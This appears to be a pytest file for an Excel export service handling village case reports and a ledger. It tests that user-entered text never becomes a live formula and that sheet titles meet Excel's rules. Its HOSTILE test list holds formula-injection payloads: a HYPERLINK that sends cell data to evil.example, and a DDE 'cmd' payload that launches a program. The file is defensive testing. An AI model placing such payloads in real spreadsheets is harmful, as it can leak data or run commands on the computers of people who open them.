"""Every sheet the service writes: user text stays text (never a formula), sheet titles Excel accepts."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date, datetime

import pytest
from openpyxl import Workbook, load_workbook

from domain import export as export_cases
from domain.ledger import export_rows
from domain.model import LedgerItem, LedgerStatus, Report
from domain.reports import Export
from handlers.sheets import ledger_xlsx, reports_xlsx
from handlers.xlsx import cases_workbook, sheet_title, text_row
from tests.support import SHANGHAI

# What a spreadsheet would run or re-type: =, +, -, @ formulas; a tab or return before one; an error code.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "#N/A",
]
SUBMITTED = datetime(2026, 11, 23, 10, 0, tzinfo=SHANGHAI)


def sheet_xml(document: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(document)) as archive:
        return "".join(
            archive.read(name).decode("utf-8")
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and name.endswith(".xml")
        )


def values(document: bytes) -> list[tuple[object, ...]]:
    sheet = load_workbook(io.BytesIO(document)).active
    assert sheet is not None
    return [tuple(row) for row in sheet.iter_rows(values_only=True)]


def literal(text: str) -> str:
    """What the sheet holds for `text`: XML keeps no lone carriage return, so it is written as a newline."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def assert_no_formula(document: bytes) -> None:
    xml = sheet_xml(document)
    assert not re.search(r"<f[ >]", xml), xml
    assert 't="e"' not in xml  # "#N/A" typed by someone is not an Excel error value


@pytest.mark.parametrize("hostile", HOSTILE)
def test_user_text_in_the_cases_export_is_text_not_a_formula(hostile: str) -> None:
    row = {column: "" for column in export_cases.COLUMNS}
    row.update(
        receipt="20261123000001", township="青山镇", village=hostile, head_name=hostile, description=hostile,
        followups=hostile, reason=hostile, acknowledged_by=hostile, household_size=4, submitted_at=SUBMITTED,
    )  # fmt: skip
    document = cases_workbook([row], export_cases.COLUMNS, "zh_Hans", SHANGHAI)
    assert_no_formula(document)
    read = dict(zip(export_cases.COLUMNS, values(document)[1], strict=True))
    for column in ("village", "head_name", "description", "followups", "reason", "acknowledged_by"):
        assert read[column] == literal(hostile)
    # What the service itself produced stays typed.
    assert read["household_size"] == 4
    assert read["submitted_at"] == datetime(2026, 11, 23, 10, 0)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_user_text_in_the_reports_sheet_is_text_not_a_formula(hostile: str) -> None:
    at = datetime(2026, 12, 9, 9, 30, tzinfo=SHANGHAI)
    report = Report(1, date(2026, 12, 10), 12, 2, 3, 1, hostile, 7, at)
    data = Export(hostile, [(1, "QS01", hostile), (2, "QS03", hostile)], [report])
    document = reports_xlsx(data, "zh_Hans")
    assert_no_formula(document)
    rows = values(document)
    text = literal(hostile)
    assert rows[1] == ("2026-12-10", "QS01", text, 12, 2, 3, 1, text, "2026-12-09 09:30")
    assert rows[2][:3] == ("2026-12-10", "QS03", text)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_user_text_in_the_ledger_export_is_text_not_a_formula(hostile: str) -> None:
    item = LedgerItem(
        id=3, village_id=1, village_name=hostile, added_by=7, what=hostile, measure=hostile,
        deadline=date(2026, 11, 30), responsible=hostile, status=LedgerStatus.OPEN,
        created_at=datetime(2026, 11, 23, 10, 0, tzinfo=SHANGHAI), closed_at=None,
    )  # fmt: skip
    document = ledger_xlsx(export_rows([item]), "zh_Hans")
    assert_no_formula(document)
    text = literal(hostile)
    assert values(document)[1][:6] == (3, text, text, text, "2026-11-30", text)


def test_control_characters_in_user_text_do_not_stop_the_export() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    text_row(sheet, ["第一行\x00\x07\x1b第二行", 5, None])
    out = io.BytesIO()
    book.save(out)
    assert values(out.getvalue())[0][:2] == ("第一行第二行", 5)


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("2026/12:排查?*[一]\\", "2026／12：排查？＊［一］＼"),
        ("'大走访'", "大走访"),
        ("", "reports"),
        ("   ", "reports"),
        ("History", "reports"),  # Excel keeps this name for itself
        ("大" * 40, "大" * 31),
        ("x" * 30 + "😀", "x" * 30),  # 31 characters as Excel counts them (UTF-16)
    ],
)
def test_sheet_titles_follow_excels_rules(name: str, expected: str) -> None:
    assert sheet_title(name, fallback="reports") == expected


@pytest.mark.parametrize("name", ["2026/12:排查?*[一]\\", "a'", "'" * 3, "[]" * 20, "History"])
def test_a_campaign_with_any_name_gives_a_sheet_excel_opens(name: str) -> None:
    report = Report(1, date(2026, 12, 10), 1, 0, 0, 0, "", 7, datetime(2026, 12, 9, tzinfo=SHANGHAI))
    document = reports_xlsx(Export(name, [(1, "QS01", "李家村")], [report]), "zh_Hans")
    title = load_workbook(io.BytesIO(document)).active.title  # type: ignore[union-attr]
    assert title and len(title) <= 31 and not re.search(r"[/\\?*:\[\]]", title)
    assert not title.startswith("'") and not title.endswith("'")


def test_two_campaigns_whose_titles_clean_alike_get_two_sheets() -> None:
    names = ["2026/大走访", "2026／大走访", "'2026/大走访'", "x" * 40, "x" * 31 + "y"]
    book = Workbook()
    first = book.active
    assert first is not None
    taken: list[str] = []
    for index, name in enumerate(names):
        title = sheet_title(name, taken)
        taken.append(title)
        sheet = first if index == 0 else book.create_sheet()
        sheet.title = title
    assert len({t.casefold() for t in taken}) == len(names)
    assert all(len(t) <= 31 for t in taken)
    assert taken[:3] == ["2026／大走访", "2026／大走访 (2)", "2026／大走访 (3)"]
    out = io.BytesIO()
    book.save(out)
    assert load_workbook(io.BytesIO(out.getvalue())).sheetnames == taken
    # Excel ignores case when it compares titles.
    assert sheet_title("ABC", ["abc"]) == "ABC (2)"
